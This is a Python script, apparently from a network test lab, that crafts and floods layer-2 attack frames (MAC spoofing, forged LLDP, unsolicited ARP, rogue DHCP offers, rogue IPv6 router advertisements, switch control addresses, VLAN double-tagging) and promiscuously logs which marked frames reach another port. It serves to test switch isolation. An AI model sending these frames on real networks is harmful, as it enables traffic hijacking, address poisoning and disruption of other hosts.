"""What a node that means ill may send, and whoever hears it. Each frame carries a mark, so that what arrives tells who sent which.

attack.py send INTERFACE KIND[=MAC|ADDRESS]...   two of each a second, until it is ended
attack.py hear INTERFACE FILE                    writes a line "KIND source MAC" for each marked frame that arrives, until it is ended

mac=MAC       broadcasts under that address
lldp=MAC      LLDP that says that the NIC with that address is behind this port
arp=ADDRESS   says that this address is the sender's (asked by nobody)
dhcp          a DHCP offer to everybody
ra            an IPv6 router advertisement
control       to the addresses that are the switches' own (IEEE 802.1Q table 8-1, Cisco's)
to=MAC        to that address, as to a switch's own
priority      tag 0, alone and above tags of others
tags          two and three tags, 0x8100 and 0x88a8, of all networks that the lab may have"""

import socket
import struct
import sys
import time

MARK = b"haas-attack:"
EVERYBODY = b"\xff" * 6
LOCAL = b"\x88\xb5"  # for local experiments, IEEE 802
VIDS = [1, 100, *range(1300, 1304), 4000, 4001]
GROUPS = [bytes.fromhex("0180c20000%02x" % last) for last in range(16)] + [bytes.fromhex("01000ccccccc"), bytes.fromhex("01000ccccccd")]


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def marked(kind, head):
    return head.ljust(64, b"\0") + MARK + kind.encode() + b"\0"


def tag(vid, ethertype=0x8100, priority=0):
    return struct.pack("!HH", ethertype, priority << 13 | vid)


def ipv4_udp(source, ports, payload):
    udp = struct.pack("!HHHH", *ports, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, b"\xff" * 4)
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    return b"\x08\0" + head[:10] + struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + head[12:] + udp


def lldp(own, value):
    nic = b"\x03" + mac(value)  # port id of subtype MAC address
    pdu = b"\x02\x07\x04" + own + bytes([4, len(nic)]) + nic + b"\x06\x02\0\x05\0\0"
    return [bytes.fromhex("0180c200000e") + own + b"\x88\xcc" + pdu]


def arp(own, value):
    address = socket.inet_aton(value)
    body = b"\0\1\x08\0\6\4"
    return [EVERYBODY + own + b"\x08\6" + body + struct.pack("!H", operation) + own + address + EVERYBODY + address for operation in (1, 2)]


def dhcp(own, _):
    bootp = b"\2\1\6\0" + bytes(12) + socket.inet_aton("10.9.9.9") + bytes(12) + own + bytes(202) + b"\x63\x82\x53\x63\x35\1\2\x36\4\x0a\x09\x09\1\xff"
    return [EVERYBODY + own + ipv4_udp(socket.inet_aton("10.9.9.1"), (67, 68), bootp)]


def advertisement(own, _):
    source, everybody = bytes.fromhex("fe80" + "0" * 26 + "01"), bytes.fromhex("ff02" + "0" * 26 + "01")
    icmp = b"\x86\0\0\0\x40\0\x07\x08" + bytes(8)
    return [bytes.fromhex("333300000001") + own + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(icmp), 58, 255) + source + everybody + icmp]


def priority(own, _):
    yield EVERYBODY + own + tag(0) + LOCAL
    yield EVERYBODY + own + tag(0, priority=7) + LOCAL
    for vid in VIDS:
        yield EVERYBODY + own + tag(0) + tag(vid) + LOCAL
        yield EVERYBODY + own + tag(0, 0x88A8) + tag(vid) + LOCAL


def tags(own, _):
    for outer in VIDS:
        yield EVERYBODY + own + tag(outer, 0x88A8) + tag(outer) + tag(outer) + LOCAL
        for inner in VIDS:
            yield EVERYBODY + own + tag(outer) + tag(inner) + LOCAL
            yield EVERYBODY + own + tag(outer, 0x88A8) + tag(inner) + LOCAL


KINDS = {
    "mac": lambda own, value: [EVERYBODY + mac(value) + LOCAL],
    "lldp": lldp,
    "arp": arp,
    "dhcp": dhcp,
    "ra": advertisement,
    "control": lambda own, value: [group + own + LOCAL for group in GROUPS],
    "to": lambda own, value: [mac(value) + own + LOCAL],
    "priority": priority,
    "tags": tags,
}


def send(interface, *words):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((interface, 0))
        own = sock.getsockname()[4]
        pairs = [(kind, value) for kind, _, value in (word.partition("=") for word in words)]
        frames = [marked(kind, head) for kind, value in pairs for head in KINDS[kind](own, value)]
        print("sending", flush=True)
        while True:
            for frame in frames:
                try:
                    sock.send(frame)
                except OSError:  # its link is down, or its queue is full
                    time.sleep(0.01)
            time.sleep(0.5)


def hear(interface, path):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sock, open(path, "w", buffering=1) as out:
        sock.bind((interface, 0))
        sock.setsockopt(263, 1, struct.pack("iHH8s", socket.if_nametoindex(interface), 1, 0, b""))  # SOL_PACKET: promiscuous
        print("hearing", flush=True)
        while True:
            data, about = sock.recvfrom(4096)
            at = data.find(MARK)
            if at >= 0 and about[2] != socket.PACKET_OUTGOING:
                kind = data[at + len(MARK):].split(b"\0")[0].decode(errors="replace")
                print(kind, "source", ":".join("%02x" % byte for byte in data[6:12]), file=out)


{"send": send, "hear": hear}[sys.argv[1]](*sys.argv[2:])
